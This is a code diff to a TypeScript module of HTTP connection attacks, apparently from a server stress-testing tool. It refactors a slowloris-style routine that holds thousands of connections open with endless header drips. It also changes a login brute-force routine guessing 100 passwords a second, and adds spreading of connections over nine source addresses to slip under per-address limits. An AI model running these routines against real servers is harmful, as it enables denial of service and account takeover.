@@ -1,11 +1,14 @@
 /** Attacks with HTTP connections. */
 import { connect, type Socket } from 'node:net';
-import { setTimeout as sleep } from 'node:timers/promises';
 import type { AttackTask, Prepare } from './attacks.js';
-import { paced } from './pace.js';
+import { pacedEach } from './pace.js';
 
 /** Connections that an attacker holds at most: as many as a server takes in all. */
 const MOST_HELD = 8_192;
+/** Its addresses for them: servers that have a fixed limit for each take 1,024 of one. */
+const ADDRESSES = 9;
+/** Guesses of a password a second. */
+const GUESSES = 100;
 /** Between two bytes of a header that never ends, ms. */
 const DRIP = 1_000;
 
@@ -16,7 +19,7 @@ const holding =
     const open = new Set<Socket>();
     const begin = (i: number) => {
       if (open.size >= most) return;
-      const socket = connect({ host: http.address, port: http.port, localAddress: from[i % from.length]! });
+      const socket = connect({ host: http.address, port: http.port, localAddress: from[i % ADDRESSES]! });
       open.add(socket);
       socket.on('connect', () => socket.write(beginning));
       socket.on('error', () => undefined);
@@ -28,9 +31,7 @@ const holding =
         if (drip !== '') for (const socket of open) socket.write(drip);
       }, DRIP);
       let next = 0;
-      const sent = await paced(connections, until, (count) => {
-        for (let i = 0; i < count; i++) begin(next++);
-      });
+      const sent = await pacedEach(connections, until, () => begin(next++));
       clearInterval(dripping);
       for (const socket of open) socket.destroy();
       return sent;
@@ -49,13 +50,7 @@ const logins: Prepare = async ({ http, from }) => {
     socket.end(`${head}Connection: close\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
   };
   let next = 0;
-  return async (until) => {
-    const sent = await paced(100, until, (count) => {
-      for (let i = 0; i < count; i++) guess(next++);
-    });
-    await sleep(100);
-    return sent;
-  };
+  return (until) => pacedEach(GUESSES, until, () => guess(next++));
 };
 
 export const connectionAttacks: Record<string, Prepare> = {
